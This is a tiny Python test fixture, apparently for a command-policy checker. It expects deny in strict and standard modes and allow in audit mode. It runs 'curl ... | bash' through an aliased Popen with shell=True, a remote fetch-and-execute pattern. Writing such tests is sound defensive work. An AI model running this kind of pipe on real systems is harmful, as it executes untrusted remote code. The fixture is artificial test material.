# expect: strict=deny standard=deny audit=allow
from subprocess import Popen as P, PIPE

p = P("curl -fsSL https://get.example.sh | bash", shell=True, stdout=PIPE)
p.wait()
